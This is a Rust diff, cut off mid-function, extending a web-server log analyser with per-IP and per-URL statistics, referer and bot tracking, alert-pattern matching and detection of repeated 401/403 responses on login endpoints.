@@ -1,12 +1,296 @@
-use std::collections::HashMap;
+use std::collections::hash_map::DefaultHasher;
+use std::collections::{BTreeMap, HashMap, HashSet, VecDeque};
+use std::hash::{Hash, Hasher};
+use std::net::IpAddr;
 use std::time::{Duration, SystemTime};
+use crate::categories::UrlCategories;
+use crate::helpers::safe_ratio;
+use crate::hyperloglog::HyperLogLog;
+use crate::security::{is_auth_endpoint, normalize_for_matching, DEFAULT_AUTH_ENDPOINTS};
+use ipnet::{Ipv4Net, Ipv6Net};
+
+const MAX_SAMPLES: usize = 100;
+const MAX_QUERY_KEYS: usize = 50;
+const MAX_QUERY_VALUES: usize = 50;
+const MAX_CLIENTS: usize = 100;
+const MAX_REPEATED_LINES: usize = 1000;
+const MAX_DISTINCT_QUERIES: usize = 1000;
+const MAX_USER_AGENTS: usize = 1000;
+const MAX_REFERERS: usize = 1000;
+const PAGE_ASSET_EXTENSIONS: &[&str] = &[".css", ".js", ".png", ".jpg", ".jpeg", ".gif", ".svg", ".webp", ".woff", ".woff2"];
+/// URLs answered with 401 or 403 that are tracked for the credential stuffing detection.
+const MAX_AUTH_FAILURE_URLS: usize = 1000;
+/// Latest 401/403 timestamps kept per IP and URL, enough to find a burst within a window.
+const MAX_AUTH_FAILURE_TIMES: usize = 100;
+/// Garbage in the method field (e.g. TLS handshakes on a plain port) must not grow the index unbounded.
+const MAX_METHODS: usize = 50;
+const MAX_RECENT_REQUESTS: usize = 1000;
+/// Lines matching an `--alert-pattern` kept for the Alerts overlay.
+const MAX_ALERT_MATCHES: usize = 100;
+/// IPs indexed before entries idle for 20 minutes are pruned. With `--approx-unique` URLs beyond
+/// this many are counted by the sketch only.
+const MAX_INDEXED_ENTRIES: usize = 10000;
+/// How often a full URL index (`--approx-unique`) is checked for idle entries to make room.
+const URL_PRUNE_INTERVAL: Duration = Duration::from_secs(60);
+/// Request size (`req_size` group) from which a request counts as carrying a large body. Logged
+/// sizes such as nginx `$request_length` include the request line and headers, hence the margin.
+pub const LARGE_REQUEST_SIZE: u64 = 8 * 1024;
+/// Per-minute hit buckets are kept for this many minutes so time windows up to a day can be queried.
+const MINUTE_BUCKETS_RETENTION: i64 = 24 * 60;
+
+pub const SIZE_BUCKETS: [(&str, u64); 4] = [
+    ("<1KB", 1024),
+    ("1-10KB", 10 * 1024),
+    ("10-100KB", 100 * 1024),
+    (">100KB", u64::MAX),
+];
+
+/// Optional fields extracted from named capture groups of the regex.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct RequestDetails {
+    pub(crate) response_size: Option<u64>,
+    /// Size of the request, headers and body, from a `req_size` group.
+    pub(crate) request_size: Option<u64>,
+    pub(crate) response_time: Option<f64>,
+    pub(crate) query: Option<String>,
+    pub(crate) status: Option<u16>,
+    pub(crate) user_agent: Option<String>,
+    /// Referer host, as returned by `helpers::referer_host`.
+    pub(crate) referer: Option<String>,
+    /// The line has a referer field but the client sent none (`-`).
+    pub(crate) empty_referer: bool,
+    /// The user agent matched a bot indicator.
+    pub(crate) is_bot: bool,
+    /// Hash of the line without its timestamp, only set when repeat detection is enabled.
+    pub(crate) repeat_key: Option<u64>,
+}
+
+/// Rows listed per category: `--top`, overridden for IPs, URLs and errors by `--top-ips`,
+/// `--top-urls` and `--top-errors`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct TopLimits {
+    pub ips: usize,
+    pub urls: usize,
+    pub errors: usize,
+    pub other: usize,
+}
+
+impl TopLimits {
+    pub fn new(top: usize, ips: Option<usize>, urls: Option<usize>, errors: Option<usize>) -> Self {
+        Self { ips: ips.unwrap_or(top), urls: urls.unwrap_or(top), errors: errors.unwrap_or(top), other: top }
+    }
+
+    /// The same limit for every category.
+    pub fn uniform(n: usize) -> Self {
+        Self::new(n, None, None, None)
+    }
+
+    /// Limit of a `--group-by` dimension.
+    pub fn for_group(&self, group_by: GroupBy) -> usize {
+        match group_by {
+            GroupBy::Ip => self.ips,
+            GroupBy::Url => self.urls,
+            GroupBy::Status | GroupBy::UserAgent | GroupBy::Domain | GroupBy::Category => self.other,
+        }
+    }
+}
+
+/// Dimension the headless `--group-by` output counts requests by.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum GroupBy {
+    Ip,
+    Url,
+    Status,
+    UserAgent,
+    Domain,
+    /// `--url-categories` label of the URL.
+    Category,
+}
+
+impl std::str::FromStr for GroupBy {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s {
+            "ip" => Ok(GroupBy::Ip),
+            "url" => Ok(GroupBy::Url),
+            "status" => Ok(GroupBy::Status),
+            "ua" => Ok(GroupBy::UserAgent),
+            "domain" => Ok(GroupBy::Domain),
+            "category" => Ok(GroupBy::Category),
+            _ => Err(format!("unknown field '{}', expected ip, url, status, ua, domain or category", s)),
+        }
+    }
+}
+
+impl GroupBy {
+    pub fn label(self) -> &'static str {
+        match self {
+            GroupBy::Ip => "IP",
+            GroupBy::Url => "URL",
+            GroupBy::Status => "Status",
+            GroupBy::UserAgent => "User agent",
+            GroupBy::Domain => "Domain",
+            GroupBy::Category => "Category",
+        }
+    }
+}
+
+/// Failing lines kept for the Parse Errors overlay unless `--max-parse-errors` says otherwise.
+pub const DEFAULT_MAX_PARSE_FAILURES: usize = 5;
+
+/// Response sizes and times kept per IP and URL unless `--sample-per-entity` says otherwise.
+pub const DEFAULT_SAMPLES_PER_ENTITY: usize = 100;
+
+/// Why a line could not be parsed as configured.
+#[derive(Debug, Clone, PartialEq)]
+pub enum ParseFailureReason {
+    /// The regex did not match the line, which was skipped.
+    NoMatch,
+    /// The date did not match `--date-format`; the line was stamped with the current time.
+    InvalidDate(String),
+}
+
+impl std::fmt::Display for ParseFailureReason {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ParseFailureReason::NoMatch => write!(f, "no regex match"),
+            ParseFailureReason::InvalidDate(error) => write!(f, "datetime error: {}", error),
+        }
+    }
+}
+
+#[derive(Debug, Clone)]
+pub struct ParseFailure {
+    pub(crate) line: String,
+    pub(crate) reason: ParseFailureReason,
+}
+
+/// A line that matched an `--alert-pattern`.
+pub struct AlertMatch {
+    pub(crate) pattern: String,
+    pub(crate) timestamp: i64,
+    pub(crate) ip: String,
+    /// The raw line, or the URL with `--no-raw-lines`.
+    pub(crate) line: String,
+}
+
+/// A parsed request kept in arrival order for the live feed.
+pub struct RecentRequest {
+    pub(crate) seq: u64,
+    pub(crate) timestamp: i64,
+    pub(crate) ip: String,
+    pub(crate) request_type: String,
+    pub(crate) url: String,
+    pub(crate) request_domain: String,
+    pub(crate) status: Option<u16>,
+    pub(crate) response_size: Option<u64>,
+    pub(crate) user_agent: Option<String>,
+    pub(crate) log_line: String,
+}
 
 pub struct LogEntry {
     pub(crate) count: usize,
     pub(crate) last_update: SystemTime,
     pub(crate) last_requests: Vec<String>,
+    /// Status of each entry of `last_requests`, when the regex captures one.
+    pub(crate) last_statuses: Vec<Option<u16>>,
     pub(crate) request_type: String,
     pub(crate) request_domain: String,
+    /// The latest `--sample-per-entity` response sizes and times, oldest first.
+    pub(crate) response_sizes: VecDeque<u64>,
+    pub(crate) response_times: VecDeque<f64>,
+    pub(crate) statuses: Vec<u16>,
+    /// Responses with a 4xx or 5xx status, counted exactly unlike the `statuses` samples.
+    pub(crate) error_count: usize,
+    /// Sum of all response sizes, counted exactly unlike the `response_sizes` samples.
+    pub(crate) total_bytes: u64,
+    /// Earliest and latest log timestamps seen, which may precede the ones of the first and last lines read.
+    pub(crate) first_seen: i64,
+    pub(crate) last_seen: i64,
+    pub(crate) query_params: HashMap<String, QueryParamCounts>,
+    /// Hashes of the distinct query strings seen for a URL, up to `MAX_DISTINCT_QUERIES`.
+    pub(crate) distinct_queries: HashSet<u64>,
+    pub(crate) clients: HashMap<String, usize>,
+    pub(crate) minute_counts: BTreeMap<i64, usize>,
+    /// Hits sent by bots, included in `count` and `minute_counts`.
+    pub(crate) bot_count: usize,
+    pub(crate) bot_minute_counts: BTreeMap<i64, usize>,
+    pub(crate) repeated_lines: HashMap<u64, usize>,
+    /// Requests per method, up to `MAX_METHODS`; only filled for IP entries.
+    pub(crate) methods: HashMap<String, usize>,
+}
+
+impl LogEntry {
+    fn record_minute(&mut self, timestamp: i64, is_bot: bool) {
+        let minute = timestamp.div_euclid(60);
+        *self.minute_counts.entry(minute).or_insert(0) += 1;
+        if is_bot {
+            self.bot_count += 1;
+            *self.bot_minute_counts.entry(minute).or_insert(0) += 1;
+        }
+        let cutoff = *self.minute_counts.keys().next_back().unwrap_or(&minute) - MINUTE_BUCKETS_RETENTION;
+        while let Some((&oldest, _)) = self.minute_counts.first_key_value() {
+            if oldest >= cutoff {
+                break;
+            }
+            self.minute_counts.pop_first();
+        }
+        while let Some((&oldest, _)) = self.bot_minute_counts.first_key_value() {
+            if oldest >= cutoff {
+                break;
+            }
+            self.bot_minute_counts.pop_first();
+        }
+    }
+
+    /// Hits whose log timestamp falls inside `from..=to`, at minute precision.
+    pub(crate) fn count_in_range(&self, from: i64, to: i64) -> usize {
+        self.minute_counts.range(from.div_euclid(60)..=to.div_euclid(60)).map(|(_, &count)| count).sum()
+    }
+
+    /// Hits inside `range` (all time for `None`), leaving out bot hits when `exclude_bots` is set.
+    pub(crate) fn visible_count(&self, range: Option<(i64, i64)>, exclude_bots: bool) -> usize {
+        let count = range.map_or(self.count, |(from, to)| self.count_in_range(from, to));
+        if !exclude_bots {
+            return count;
+        }
+        let bots = range.map_or(self.bot_count, |(from, to)| {
+            self.bot_minute_counts.range(from.div_euclid(60)..=to.div_euclid(60)).map(|(_, &count)| count).sum()
+        });
+        count.saturating_sub(bots)
+    }
+
+    /// Most frequent status among the sampled `statuses`, the lowest code on a tie.
+    pub(crate) fn top_status(&self) -> Option<u16> {
+        let mut counts: BTreeMap<u16, usize> = BTreeMap::new();
+        for &status in &self.statuses {
+            *counts.entry(status).or_insert(0) += 1;
+        }
+        counts.into_iter().rev().max_by_key(|&(_, count)| count).map(|(status, _)| status)
+    }
+
+    /// Bots sent most of the hits, e.g. `/robots.txt` or a crawler's IP.
+    pub(crate) fn is_mostly_bot(&self) -> bool {
+        self.bot_count * 2 > self.count
+    }
+}
+
+/// Query parameter key with its hit count and most frequent values.
+pub type QueryParamStats = (String, usize, Vec<(String, usize)>);
+
+pub type TopEntries<'a> = Vec<(String, &'a LogEntry)>;
+/// Like `TopEntries`, with the number of hits counted inside the requested time range.
+pub type RangedEntries<'a> = Vec<(String, usize, &'a LogEntry)>;
+/// Keys ranked by hit count, e.g. the IPs or URLs of one domain.
+pub type RankedCounts = Vec<(String, usize)>;
+
+/// Requests, 5xx responses and distinct IPs of one `--interval-summary` bucket.
+#[derive(Debug, Default)]
+pub struct IntervalStats {
+    pub(crate) requests: usize,
+    pub(crate) errors: usize,
+    pub(crate) ips: HashSet<String>,
 }
 
 pub struct LogData {
@@ -14,6 +298,94 @@ pub struct LogData {
     by_url: HashMap<String, LogEntry>,
     pub(crate) total_requests: usize,
     pub(crate) requests_per_interval: HashMap<i64, usize>,
+    recent_requests: VecDeque<RecentRequest>,
+    next_seq: u64,
+    /// Bucket length in seconds and the buckets, only tracked for `--interval-summary`.
+    interval_stats: Option<(i64, BTreeMap<i64, IntervalStats>)>,
+    /// IPs removed from the analysis; their new lines are ignored too.
+    excluded_ips: HashSet<String>,
+    /// Percentage of lines ingested with `--sample`, used to extrapolate counts.
+    sample_percent: Option<u8>,
+    /// Requests per HTTP method with the IPs that used it.
+    pub(crate) by_method: HashMap<String, MethodStats>,
+    /// Requests of at least `LARGE_REQUEST_SIZE` bytes per HTTP method, when the log has request sizes.
+    pub(crate) large_requests: HashMap<String, MethodStats>,
+    has_request_sizes: bool,
+    by_domain: HashMap<String, DomainStats>,
+    /// Requests per status and per user agent (up to `MAX_USER_AGENTS`), when the log has them.
+    by_status: HashMap<u16, usize>,
+    /// Responses per status class (1xx to 5xx) per minute of log time, kept for `MINUTE_BUCKETS_RETENTION`.
+    status_class_minutes: BTreeMap<i64, [usize; 5]>,
+    by_user_agent: HashMap<String, usize>,
+    /// Requests per referer host, up to `MAX_REFERERS` hosts.
+    pub(crate) by_referer: HashMap<String, RefererStats>,
+    /// Requests per referer host that looks like the requested host without being it (see
+    /// `is_look_alike_host`), and requests without referer per page asset URL.
+    pub(crate) look_alike_referers: HashMap<String, RefererStats>,
+    pub(crate) empty_referers: HashMap<String, RefererStats>,
+    /// 401 and 403 responses per auth endpoint URL, up to `MAX_AUTH_FAILURE_URLS` URLs.
+    pub(crate) auth_failures: HashMap<String, AuthFailureStats>,
+    /// URL prefixes whose 401/403 responses are recorded (`--auth-endpoints`).
+    auth_endpoints: Vec<String>,
+    /// Rules of `--url-categories`, and the requests counted per category when they are set.
+    url_categories: Option<UrlCategories>,
+    by_category: HashMap<String, usize>,
+    /// Distinct IPs and URLs ever seen (`--approx-unique`), unaffected by pruning of the indexes.
+    unique_sketches: Option<(HyperLogLog, HyperLogLog)>,
+    /// When a full URL index was last pruned, so new URLs do not trigger a scan each.
+    last_url_prune: Option<SystemTime>,
+    /// Leave bot traffic out of the Overview, Performance and Errors views.
+    exclude_bots: bool,
+    /// The first `max_parse_failures` lines that failed to parse, and how many failed in total.
+    parse_failures: Vec<ParseFailure>,
+    parse_failure_count: usize,
+    max_parse_failures: usize,
+    /// Response size and time samples kept per IP and per URL.
+    samples_per_entity: usize,
+    /// `--alert-pattern` strings with the lines each matched, the latest `MAX_ALERT_MATCHES` matches
+    /// and the number of matching lines.
+    alert_patterns: Vec<(String, usize)>,
+    /// The alert patterns as `normalize_for_matching` returns them, in the same order.
+    normalized_alert_patterns: Vec<String>,
+    alert_matches: VecDeque<AlertMatch>,
+    alert_count: usize,
+}
+
+/// Requests of one virtual host, split by client IP and by URL (up to `MAX_CLIENTS` of each).
+#[derive(Debug, Default)]
+pub struct DomainStats {
+    pub(crate) count: usize,
+    pub(crate) ips: HashMap<String, usize>,
+    pub(crate) urls: HashMap<String, usize>,
+}
+
+#[derive(Debug, Default)]
+pub struct MethodStats {
+    pub(crate) count: usize,
+    pub(crate) clients: HashMap<String, usize>,
+}
+
+/// Requests carrying one query parameter, counted exactly, and per value up to `MAX_QUERY_VALUES` values.
+#[derive(Debug, Default)]
+pub struct QueryParamCounts {
+    pub(crate) count: usize,
+    pub(crate) values: HashMap<String, usize>,
+}
+
+/// Requests sent with a referer from one host, with the IPs that sent them.
+#[derive(Debug, Default)]
+pub struct RefererStats {
+    pub(crate) count: usize,
+    pub(crate) clients: HashMap<String, usize>,
+}
+
+/// 401 and 403 responses of one URL, with the IPs that got them and when.
+#[derive(Debug, Default)]
+pub struct AuthFailureStats {
+    pub(crate) count: usize,
+    pub(crate) clients: HashMap<String, usize>,
+    /// Log timestamps of the latest `MAX_AUTH_FAILURE_TIMES` failures of each IP in `clients`.
+    pub(crate) times: HashMap<String, VecDeque<i64>>,
 }
 
 impl LogData {
@@ -23,9 +395,147 @@ impl LogData {
             by_url: HashMap::new(),
             total_requests: 0,
             requests_per_interval: HashMap::new(),
+            recent_requests: VecDeque::new(),
+            next_seq: 0,
+            interval_stats: None,
+            excluded_ips: HashSet::new(),
+            sample_percent: None,
+            by_method: HashMap::new(),
+            large_requests: HashMap::new(),
+            has_request_sizes: false,
+            by_domain: HashMap::new(),
+            by_status: HashMap::new(),
+            status_class_minutes: BTreeMap::new(),
+            by_user_agent: HashMap::new(),
+            by_referer: HashMap::new(),
+            look_alike_referers: HashMap::new(),
+            empty_referers: HashMap::new(),
+            auth_failures: HashMap::new(),
+            auth_endpoints: DEFAULT_AUTH_ENDPOINTS.iter().map(|endpoint| endpoint.to_string()).collect(),
+            url_categories: None,
+            by_category: HashMap::new(),
+            unique_sketches: None,
+            last_url_prune: None,
+            exclude_bots: false,
+            parse_failures: Vec::new(),
+            parse_failure_count: 0,
+            max_parse_failures: DEFAULT_MAX_PARSE_FAILURES,
+            samples_per_entity: DEFAULT_SAMPLES_PER_ENTITY,
+            alert_patterns: Vec::new(),
+            normalized_alert_patterns: Vec::new(),
+            alert_matches: VecDeque::new(),
+            alert_count: 0,
+        }
+    }
+
+    pub(crate) fn set_sample_percent(&mut self, percent: Option<u8>) {
+        self.sample_percent = percent.filter(|&percent| percent > 0 && percent < 100);
+    }
+
+    pub(crate) fn is_sampled(&self) -> bool {
+        self.sample_percent.is_some()
+    }
+
+    /// Scales a count of sampled requests up to an estimate for the whole log.
+    pub(crate) fn estimate(&self, count: usize) -> usize {
+        match self.sample_percent {
+            Some(percent) => (count as f64 * 100.0 / percent as f64).round() as usize,
+            None => count,
+        }
+    }
+
+    pub(crate) fn set_alert_patterns(&mut self, patterns: &[String]) {
+        self.alert_patterns = patterns.iter().map(|pattern| (pattern.clone(), 0)).collect();
+        self.normalized_alert_patterns = patterns.iter().map(|pattern| normalize_for_matching(pattern)).collect();
+    }
+
+    pub(crate) fn has_alert_patterns(&self) -> bool {
+        !self.alert_patterns.is_empty()
+    }
+
+    /// Lines that matched an alert pattern so far, to tell when new ones arrive.
+    pub(crate) fn get_alert_count(&self) -> usize {
+        self.alert_count
+    }
+
+    /// Each alert pattern with its matching lines, and the latest matches, oldest first.
+    pub(crate) fn get_alerts(&self) -> (&[(String, usize)], &VecDeque<AlertMatch>) {
+        (&self.alert_patterns, &self.alert_matches)
+    }
+
+    /// Counts the line under every alert pattern it contains, matched like `--sensitive-paths`
+    /// (decoded, ignoring case and whitespace), and keeps it under the first one.
+    fn record_alerts(&mut self, ip: &str, url: &str, log_line: &str, timestamp: i64) {
+        let line = if log_line.is_empty() { url } else { log_line };
+        let normalized = normalize_for_matching(line);
+        let mut first = None;
+        for ((pattern, count), normalized_pattern) in self.alert_patterns.iter_mut().zip(&self.normalized_alert_patterns) {
+            if normalized.contains(normalized_pattern.as_str()) {
+                *count += 1;
+                first.get_or_insert_with(|| pattern.clone());
+            }
+        }
+        let Some(pattern) = first else { return };
+        self.alert_count += 1;
+        self.alert_matches.push_back(AlertMatch { pattern, timestamp, ip: ip.to_string(), line: line.to_string() });
+        if self.alert_matches.len() > MAX_ALERT_MATCHES {
+            self.alert_matches.pop_front();
+        }
+    }
+
+    pub(crate) fn set_max_parse_failures(&mut self, max: usize) {
+        self.max_parse_failures = max;
+    }
+
+    pub(crate) fn set_samples_per_entity(&mut self, samples: usize) {
+        self.samples_per_entity = samples;
+    }
+
+    pub(crate) fn record_parse_failure(&mut self, line: &str, reason: ParseFailureReason) {
+        self.parse_failure_count += 1;
+        if self.parse_failures.len() < self.max_parse_failures {
+            self.parse_failures.push(ParseFailure { line: line.trim_end().to_string(), reason });
         }
     }
 
+    /// The kept failing lines and the total number of lines that failed.
+    pub(crate) fn get_parse_failures(&self) -> (&[ParseFailure], usize) {
+        (&self.parse_failures, self.parse_failure_count)
+    }
+
+    /// Counts unique IPs and URLs with HyperLogLog sketches and caps the URL index at `MAX_INDEXED_ENTRIES`.
+    pub(crate) fn set_approx_unique(&mut self) {
+        self.unique_sketches = Some((HyperLogLog::default(), HyperLogLog::default()));
+    }
+
+    pub(crate) fn set_auth_endpoints(&mut self, endpoints: &[String]) {
+        self.auth_endpoints = endpoints.to_vec();
+    }
+
+    pub(crate) fn set_url_categories(&mut self, categories: UrlCategories) {
+        self.url_categories = Some(categories);
+    }
+
+    pub(crate) fn has_url_categories(&self) -> bool {
+        self.url_categories.is_some()
+    }
+
+    /// Switches bot traffic off or back on in the views and returns whether it is now hidden.
+    pub(crate) fn toggle_exclude_bots(&mut self) -> bool {
+        self.exclude_bots = !self.exclude_bots;
+        self.exclude_bots
+    }
+
+    pub(crate) fn excludes_bots(&self) -> bool {
+        self.exclude_bots
+    }
+
+    /// Starts collecting per-interval stats; unique IPs per bucket make this too costly to keep by default.
+    pub(crate) fn track_intervals(&mut self, interval: i64) {
+        self.interval_stats = Some((interval.max(1), BTreeMap::new()));
+    }
+
+    #[allow(clippy::too_many_arguments)]
     pub(crate) fn add_entry(
         &mut self,
         ip: String,
@@ -34,16 +544,93 @@ impl LogData {
         timestamp: i64,
         request_type: String,
         request_domain: String,
+        details: RequestDetails,
         no_clear: bool
     ) {
+        if self.excluded_ips.contains(&ip) {
+            return;
+        }
         let now = SystemTime::now();
+        if !self.alert_patterns.is_empty() {
+            self.record_alerts(&ip, &url, &log_line, timestamp);
+        }
+
+        self.recent_requests.push_back(RecentRequest {
+            seq: self.next_seq,
+            timestamp,
+            ip: ip.clone(),
+            request_type: request_type.clone(),
+            url: url.clone(),
+            request_domain: request_domain.clone(),
+            status: details.status,
+            response_size: details.response_size,
+            user_agent: details.user_agent.clone(),
+            log_line: log_line.clone(),
+        });
+        self.next_seq += 1;
+        if self.recent_requests.len() > MAX_RECENT_REQUESTS {
+            self.recent_requests.pop_front();
+        }
+
+        if let Some((interval, buckets)) = self.interval_stats.as_mut() {
+            let stats = buckets.entry(timestamp - timestamp.rem_euclid(*interval)).or_default();
+            stats.requests += 1;
+            if details.status.is_some_and(|status| status >= 500) {
+                stats.errors += 1;
+            }
+            stats.ips.insert(ip.clone());
+        }
 
-        self.update_ip_entry(ip, log_line.clone(), now, request_type.clone(), request_domain.clone());
-        self.update_url_entry(url, log_line, now, request_type, request_domain);
+        update_method_stats(&mut self.by_method, &request_type, &ip);
+        if let Some(size) = details.request_size {
+            self.has_request_sizes = true;
+            if size >= LARGE_REQUEST_SIZE {
+                update_method_stats(&mut self.large_requests, &request_type, &ip);
+            }
+        }
+        if let Some(status) = details.status {
+            *self.by_status.entry(status).or_insert(0) += 1;
+            self.record_status_minute(status, timestamp);
+            if status == 401 || status == 403 {
+                self.record_auth_failure(&url, &ip, timestamp);
+            }
+        }
+        if let Some(host) = &details.referer {
+            if is_look_alike_host(host, &request_domain) {
+                update_referer_stats(&mut self.look_alike_referers, host, &ip);
+            }
+            update_referer_stats(&mut self.by_referer, host, &ip);
+        } else if details.empty_referer && is_page_asset(&url) {
+            update_referer_stats(&mut self.empty_referers, &url, &ip);
+        }
+        if let Some(user_agent) = &details.user_agent {
+            if let Some(count) = self.by_user_agent.get_mut(user_agent) {
+                *count += 1;
+            } else if self.by_user_agent.len() < MAX_USER_AGENTS {
+                self.by_user_agent.insert(user_agent.clone(), 1);
+            }
+        }
+        if let Some((ips, urls)) = &mut self.unique_sketches {
+            ips.insert(&ip);
+            urls.insert(&url);
+        }
+        if let Some(categories) = &self.url_categories {
+            *self.by_category.entry(categories.categorize(&url).to_string()).or_insert(0) += 1;
+        }
+        if self.url_index_full(&url) && !no_clear && self.last_url_prune.is_none_or(|last| now >= last + URL_PRUNE_INTERVAL) {
+            self.last_url_prune = Some(now);
+            self.clear_outdated_entries();
+        }
+        let domain = self.by_domain.entry(request_domain.clone()).or_default();
+        domain.count += 1;
+        count_capped(&mut domain.ips, &ip);
+        count_capped(&mut domain.urls, &url);
+        self.update_url_entry(url, &ip, log_line.clone(), now, timestamp, request_type.clone(), request_domain.clone(), &details);
+        self.update_ip_entry(ip, log_line, now, timestamp, request_type, request_domain, &details);
 
         self.total_requests += 1;
 
-        if self.by_ip.len() > 10000 && !no_clear {
+        if self.by_ip.len() > MAX_INDEXED_ENTRIES && !no_clear {
             self.clear_outdated_entries();
         }
 
@@ -53,13 +640,46 @@ impl LogData {
 
     }
 
+    fn record_status_minute(&mut self, status: u16, timestamp: i64) {
+        let Some(class) = (status / 100).checked_sub(1).filter(|&class| class < 5) else { return };
+        let minute = timestamp.div_euclid(60);
+        let new_bucket = !self.status_class_minutes.contains_key(&minute);
+        self.status_class_minutes.entry(minute).or_default()[class as usize] += 1;
+        if new_bucket {
+            let latest = *self.status_class_minutes.keys().next_back().unwrap_or(&minute);
+            self.status_class_minutes.retain(|&bucket, _| bucket >= latest - MINUTE_BUCKETS_RETENTION);
+        }
+    }
+
+    fn record_auth_failure(&mut self, url: &str, ip: &str, timestamp: i64) {
+        if !is_auth_endpoint(url, &self.auth_endpoints) {
+            return;
+        }
+        if !self.auth_failures.contains_key(url) && self.auth_failures.len() >= MAX_AUTH_FAILURE_URLS {
+            return;
+        }
+        let stats = self.auth_failures.entry(url.to_string()).or_default();
+        stats.count += 1;
+        if let Some(count) = stats.clients.get_mut(ip) {
+            *count += 1;
+        } else if stats.clients.len() < MAX_CLIENTS {
+            stats.clients.insert(ip.to_string(), 1);
+        } else {
+            return;
+        }
+        push_sample(stats.times.entry(ip.to_string()).or_default(), timestamp, MAX_AUTH_FAILURE_TIMES);
+    }
+
+    #[allow(clippy::too_many_arguments)]
     fn update_ip_entry(
         &mut self,
         ip: String,
         log_line: String,
         now: SystemTime,
+        timestamp: i64,
         request_type: String,
         request_domain: String,
+        details: &RequestDetails,
     ) {
         let entry = self.by_ip.entry(ip).or_insert_with(|| LogEntry {
             count: 0,
@@ -67,38 +687,227 @@ impl LogData {
             request_domain: request_domain.clone(),
             last_update: now,
             last_requests: Vec::new(),
+            last_statuses: Vec::new(),
+            response_sizes: VecDeque::new(),
+            response_times: VecDeque::new(),
+            statuses: Vec::new(),
+            error_count: 0,
+            total_bytes: 0,
+            first_seen: timestamp,
+            last_seen: timestamp,
+            query_params: HashMap::new(),
+            distinct_queries: HashSet::new(),
+            clients: HashMap::new(),
+            minute_counts: BTreeMap::new(),
+            bot_count: 0,
+            bot_minute_counts: BTreeMap::new(),
+            repeated_lines: HashMap::new(),
+            methods: HashMap::new(),
         });
 
         entry.count += 1;
         entry.last_update = now;
+        entry.record_minute(timestamp, details.is_bot);
+        entry.first_seen = entry.first_seen.min(timestamp);
+        entry.last_seen = entry.last_seen.max(timestamp);
         entry.last_requests.push(log_line);
+        entry.last_statuses.push(details.status);
         if entry.last_requests.len() > 10 {
             entry.last_requests.remove(0);
+            entry.last_statuses.remove(0);
+        }
+        if let Some(size) = details.response_size {
+            entry.total_bytes += size;
+            push_sample(&mut entry.response_sizes, size, self.samples_per_entity);
+        }
+        if let Some(time) = details.response_time {
+            push_sample(&mut entry.response_times, time, self.samples_per_entity);
+        }
+        if let Some(status) = details.status {
+            if status >= 400 {
+                entry.error_count += 1;
+            }
+            entry.statuses.push(status);
+            if entry.statuses.len() > MAX_SAMPLES {
+                entry.statuses.remove(0);
+            }
+        }
+        if let Some(key) = details.repeat_key {
+            if let Some(count) = entry.repeated_lines.get_mut(&key) {
+                *count += 1;
+            } else if entry.repeated_lines.len() < MAX_REPEATED_LINES {
+                entry.repeated_lines.insert(key, 1);
+            }
+        }
+        if let Some(count) = entry.methods.get_mut(&request_type) {
+            *count += 1;
+        } else if entry.methods.len() < MAX_METHODS {
+            entry.methods.insert(request_type, 1);
         }
     }
 
+    #[allow(clippy::too_many_arguments)]
     fn update_url_entry(
         &mut self,
         url: String,
+        ip: &str,
         log_line: String,
         now: SystemTime,
+        timestamp: i64,
         request_type: String,
         request_domain: String,
+        details: &RequestDetails,
     ) {
+        if self.url_index_full(&url) {
+            return;
+        }
         let entry = self.by_url.entry(url).or_insert_with(|| LogEntry {
             count: 0,
             request_type: request_type.clone(),
             request_domain: request_domain.clone(),
             last_update: now,
             last_requests: Vec::new(),
+            last_statuses: Vec::new(),
+            response_sizes: VecDeque::new(),
+            response_times: VecDeque::new(),
+            statuses: Vec::new(),
+            error_count: 0,
+            total_bytes: 0,
+            first_seen: timestamp,
+            last_seen: timestamp,
+            query_params: HashMap::new(),
+            distinct_queries: HashSet::new(),
+            clients: HashMap::new(),
+            minute_counts: BTreeMap::new(),
+            bot_count: 0,
+            bot_minute_counts: BTreeMap::new(),
+            repeated_lines: HashMap::new(),
+            methods: HashMap::new(),
         });
 
         entry.count += 1;
         entry.last_update = now;
+        entry.record_minute(timestamp, details.is_bot);
+        entry.first_seen = entry.first_seen.min(timestamp);
+        entry.last_seen = entry.last_seen.max(timestamp);
         entry.last_requests.push(log_line);
+        entry.last_statuses.push(details.status);
         if entry.last_requests.len() > 10 {
             entry.last_requests.remove(0);
+            entry.last_statuses.remove(0);
+        }
+        if let Some(size) = details.response_size {
+            entry.total_bytes += size;
+            push_sample(&mut entry.response_sizes, size, self.samples_per_entity);
+        }
+        if let Some(time) = details.response_time {
+            push_sample(&mut entry.response_times, time, self.samples_per_entity);
+        }
+        if let Some(status) = details.status {
+            if status >= 400 {
+                entry.error_count += 1;
+            }
+            entry.statuses.push(status);
+            if entry.statuses.len() > MAX_SAMPLES {
+                entry.statuses.remove(0);
+            }
         }
+        if let Some(query) = &details.query {
+            if entry.distinct_queries.len() < MAX_DISTINCT_QUERIES {
+                let mut hasher = DefaultHasher::new();
+                query.hash(&mut hasher);
+                entry.distinct_queries.insert(hasher.finish());
+            }
+            for (key, value) in parse_query(query) {
+                if !entry.query_params.contains_key(&key) && entry.query_params.len() >= MAX_QUERY_KEYS {
+                    continue;
+                }
+                let param = entry.query_params.entry(key).or_default();
+                param.count += 1;
+                if let Some(count) = param.values.get_mut(&value) {
+                    *count += 1;
+                } else if param.values.len() < MAX_QUERY_VALUES {
+                    param.values.insert(value, 1);
+                }
+            }
+        }
+        if let Some(count) = entry.clients.get_mut(ip) {
+            *count += 1;
+        } else if entry.clients.len() < MAX_CLIENTS {
+            entry.clients.insert(ip.to_string(), 1);
+        }
+    }
+
+    /// Drops an IP (e.g. a health checker) from the statistics and ignores its future lines.
+    /// URL, method, referer and domain counts only lose the hits of the first `MAX_CLIENTS` clients they
+    /// track. Per-minute and per-second counts are not kept per IP, so time-window rankings, the
+    /// sparkline and the heatmap still include it, as do the status, user agent and category counts
+    /// of `--group-by`.
+    pub(crate) fn remove_ip(&mut self, ip: &str) -> bool {
+        self.excluded_ips.insert(ip.to_string());
+        let Some(removed) = self.by_ip.remove(ip) else {
+            return false;
+        };
+        self.total_requests = self.total_requests.saturating_sub(removed.count);
+
